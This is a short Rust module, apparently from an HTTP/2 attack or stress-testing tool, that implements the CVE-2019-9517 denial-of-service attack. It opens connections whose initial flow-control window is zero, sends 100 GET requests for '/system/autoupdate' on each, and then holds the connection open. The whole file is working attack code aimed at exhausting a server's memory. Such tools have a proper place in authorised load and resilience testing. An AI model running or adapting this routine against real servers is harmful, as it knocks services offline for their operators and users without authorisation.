//! HTTP/2 clients that leave no room for what they ask for (CVE-2019-9517).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{INITIAL_WINDOW_SIZE, get};
use super::super::http2::{Connection, id};

/// How many streams each connection opens.
const STREAMS: u32 = 100;

/// Opens streams with windows of nothing.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    attacker
        .with_each(|attacker, stream| async move {
            let mut connection = Connection::begin(attacker, stream, &[(INITIAL_WINDOW_SIZE, 0)]).await;
            let streams: Vec<u8> = (0..STREAMS).flat_map(|index| get(id(index), "/system/autoupdate")).collect();
            connection.send(&streams).await;
            connection.listen().await
        })
        .await
}
